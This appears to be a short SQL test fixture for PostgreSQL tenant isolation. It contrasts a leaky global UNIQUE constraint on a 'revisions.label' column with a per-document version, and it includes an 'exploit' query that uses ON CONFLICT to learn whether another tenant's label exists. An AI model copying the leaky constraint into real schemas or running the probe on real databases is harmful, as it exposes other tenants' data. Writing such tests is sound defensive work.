-- A child without a tenant column has a key that people choose.
-- object: public.revisions
-- base: text
--- setup
ALTER TABLE revisions ADD COLUMN label text;
RESET ROLE;
UPDATE revisions SET label = 'v1-launch' WHERE content = 'of b';
--- leak
ALTER TABLE revisions ADD UNIQUE (label);
--- twin
ALTER TABLE revisions ADD UNIQUE (document_id, label);
--- exploit
WITH guess AS (
    INSERT INTO revisions (document_id, content, label)
    VALUES ('aaaaaaaa-0000-4000-8000-000000000001', 'x', 'v1-launch') ON CONFLICT DO NOTHING RETURNING 1
)
SELECT WHERE NOT EXISTS (SELECT FROM guess);
